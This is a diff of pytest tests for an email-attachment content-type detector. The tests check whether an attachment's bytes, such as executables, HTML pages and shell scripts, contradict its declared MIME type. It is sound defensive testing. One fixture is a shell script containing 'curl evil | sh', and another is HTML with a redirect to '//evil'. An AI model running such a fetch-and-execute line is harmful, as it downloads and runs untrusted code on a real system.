@@ -92,3 +92,121 @@ def test_mismatch_is_reported_only_when_it_matters(
     declared: str, data: bytes, mismatch: bool
 ) -> None:
     assert is_mismatch(declared, detect_content_type(data)) is mismatch
+
+
+MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 56
+MACHO_BIG_ENDIAN = b"\xfe\xed\xfa\xce\x00\x00\x00\x12" + b"\x00" * 56
+DOS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64  # no PE header
+HTML = b"<!DOCTYPE html>\n<html><body><script>location='//evil'</script>"
+BOM_HTML = b"\xef\xbb\xbf  \r\n<HTML><head>"
+SCRIPT = b"#!/bin/sh\ncurl evil | sh\n"
+GIF = b"GIF89a\x01\x00\x01\x00" + b"\x00" * 16
+DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+
+@pytest.mark.parametrize(
+    ("data", "detected"),
+    [
+        (MACHO, "application/x-mach-binary"),
+        (MACHO_BIG_ENDIAN, "application/x-mach-binary"),
+        (DOS_EXE, "application/x-dosexec"),
+        (HTML, "text/html"),
+        (BOM_HTML, "text/html"),
+        (SCRIPT, "text/x-script"),
+        (b"<p>a fragment is not a page</p>", "text/plain"),
+        (b"#include <stdio.h>\n", "text/plain"),
+    ],
+    ids=["macho", "macho-be", "dos-exe", "html", "html-bom", "shebang", "fragment", "c-source"],
+)
+def test_executables_pages_and_scripts_are_recognised(data: bytes, detected: str) -> None:
+    assert detect_content_type(data) == detected
+
+
+# declared, bytes, mismatch: the table of what matters to an agent opening the file.
+MISMATCH_TABLE = [
+    # Executables behind a document, media, archive or text label.
+    ("application/pdf", PE, True),
+    ("application/pdf", ELF, True),
+    ("application/pdf", MACHO, True),
+    ("image/png", DOS_EXE, True),
+    ("image/gif", MACHO_BIG_ENDIAN, True),
+    (DOCX, PE, True),
+    ("application/msword", ELF, True),
+    ("application/zip", PE, True),
+    ("text/plain", PE, True),
+    ("text/csv", MACHO, True),
+    ("text/html", ELF, True),
+    # Pages and scripts behind a document or media label.
+    ("application/pdf", HTML, True),
+    ("application/pdf", SCRIPT, True),
+    ("image/jpeg", HTML, True),
+    ("image/png", BOM_HTML, True),
+    (DOCX, SCRIPT, True),
+    ("application/zip", HTML, True),
+    ("video/mp4", SCRIPT, True),
+    # One specific format posing as another.
+    ("application/pdf", PNG, True),
+    ("image/png", PDF, True),
+    ("application/zip", PDF, True),
+    (DOCX, PDF, True),
+    # Harmless: octet-stream promises nothing, whatever the bytes.
+    ("application/octet-stream", PE, False),
+    ("application/octet-stream", HTML, False),
+    ("application/octet-stream", PDF, False),
+    ("binary/octet-stream", ELF, False),
+    # Harmless: an executable labelled as one.
+    ("application/x-msdownload", PE, False),
+    ("application/x-dosexec", DOS_EXE, False),
+    ("application/x-executable", ELF, False),
+    ("application/x-mach-binary", MACHO, False),
+    # Harmless: aliases and containers of one another.
+    ("application/x-zip-compressed", ZIP, False),
+    ("application/zip", ZIP, False),
+    (DOCX, ZIP, False),
+    (XLSX, ZIP, False),
+    ("application/msword", ZIP, False),
+    ("application/vnd.oasis.opendocument.text", ZIP, False),
+    ("application/java-archive", ZIP, False),
+    ("application/x-pdf", PDF, False),
+    ("image/jpg", JPEG, False),
+    ("image/png", JPEG, False),
+    ("image/gif", PNG, False),
+    # Harmless: text labels promise no format; pages and scripts behind a text label.
+    ("text/plain", HTML, False),
+    ("text/plain", SCRIPT, False),
+    ("text/html", HTML, False),
+    ("text/html", PNG, False),
+    ("application/x-sh", SCRIPT, False),
+    ("text/plain", GIF, False),
+    # Harmless: nothing could be detected, or plain text behind a binary label.
+    ("application/pdf", b"", False),
+    ("application/pdf", b"just text, maybe a broken PDF", False),
+    ("image/png", b"MZ is how this text starts", False),
+]
+
+
+@pytest.mark.parametrize(
+    ("declared", "data", "mismatch"),
+    MISMATCH_TABLE,
+    ids=[f"{n}-{d}-{m}" for n, (d, _, m) in enumerate(MISMATCH_TABLE)],
+)
+def test_mismatch_table(declared: str, data: bytes, mismatch: bool) -> None:
+    assert is_mismatch(declared, detect_content_type(data)) is mismatch
+
+
+@pytest.mark.parametrize(
+    ("header", "data", "detected", "mismatch"),
+    [
+        ("Content-Type: application/pdf; name=invoice.pdf", HTML, "text/html", True),
+        ("Content-Type: image/png; name=cat.png", MACHO, "application/x-mach-binary", True),
+        (f"Content-Type: {DOCX}; name=a.docx", ZIP, "application/zip", False),
+        ("Content-Type: application/x-zip-compressed; name=a.zip", ZIP, "application/zip", False),
+        ("Content-Type: text/html; name=page.html", HTML, "text/html", False),
+    ],
+)
+def test_part_records_what_its_bytes_are_and_whether_that_matters(
+    one_attachment: Build, header: str, data: bytes, detected: str, mismatch: bool
+) -> None:
+    [part] = extract_message(one_attachment(header, data), Limits()).attachments
+    assert (part.detected_content_type, part.content_type_mismatch) == (detected, mismatch)
